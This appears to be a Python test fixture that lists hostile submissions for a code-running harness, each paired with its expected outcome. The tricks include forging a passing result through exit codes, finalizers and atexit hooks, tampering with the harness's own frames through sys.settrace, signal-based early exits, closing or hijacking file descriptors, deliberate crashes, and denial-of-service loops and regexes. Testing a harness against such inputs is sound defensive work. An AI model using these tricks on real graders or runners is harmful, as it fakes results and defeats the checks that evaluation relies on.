_add("os._exit with a good code", FORGED, "\ndef attack(place): os._exit(0)\ndef answer(n): os._exit(0)\n")
_add("exceptions of its own", FORGED, '''
class Meta(type):
    @property
    def __name__(cls): return {"kind": "value"}
class Evil(BaseException, metaclass=Meta):
    def __str__(self): raise self
    __repr__ = __str__
def attack(place): raise Evil
def answer(n): raise type("1 2 \\n3", (BaseException,), {})
''')  # fmt: skip
_add("an exception whose words never end", "it never ends", '''
class Long(Exception):
    def __str__(self):
        while True: pass
def attack(place): raise Long
''')  # fmt: skip
_add("atexit, __del__ and finalizers", FORGED, NONCE + '''
import atexit, weakref
nonce, channel = held()
class Last:
    def __del__(self): os.write(channel, line(nonce, [ONE, ONE, ONE]))
keep = Last()
atexit.register(keep.__del__)
threading._register_atexit(keep.__del__)
weakref.finalize(keep.__class__, keep.__del__)
def attack(place): return won
def answer(n): return 1
''')  # fmt: skip
_add("traces and profiles of the harness", FORGED, '''
def trace(frame, event, arg):
    if "value" in frame.f_locals and event == "line":
        frame.f_locals["value"] = 1
    return trace
def attack(place):
    frame = sys._getframe()
    while frame:
        frame.f_trace = trace
        frame = frame.f_back
    sys.settrace(trace)
    return won
def answer(n): return 1
''')  # fmt: skip
_add("an alarm in the harness", FORGED, '''
def attack(place):
    def ring(*_): raise SystemExit(0)
    signal.signal(signal.SIGALRM, ring)
    signal.setitimer(signal.ITIMER_REAL, 0.001, 0.0001)
    return won
def answer(n): return 1
''')  # fmt: skip
_add("sleeps forever", "it never ends", "\ntime.sleep(10 ** 6)\n")
_add("recursion", "the parent fails", '''
sys.setrecursionlimit(10 ** 9)
def attack(place): return attack(place)
''')  # fmt: skip
_add("a fault of the processor", "the parent fails", "\ndef attack(place): return ctypes.string_at(0)\n")
_add("closes every handle", FORGED, '''
def attack(place):
    os.closerange(0, 1024)
    return won
def answer(n): return 1
''')  # fmt: skip
_add("another thing in place of the channel", FORGED, '''
def attack(place):
    for fd in range(3, 32):
        try:
            os.dup2(2, fd)
        except OSError:
            pass
    return won
def answer(n): return 1
''')  # fmt: skip
_add("a compiler's worst case", "it never ends", "\nexec('(' * 10 ** 6)\n")
_add("a regular expression's worst case", "it never ends", '''
import re
def attack(place): return re.match("(a*)*b", "a" * 40)
''')  # fmt: skip
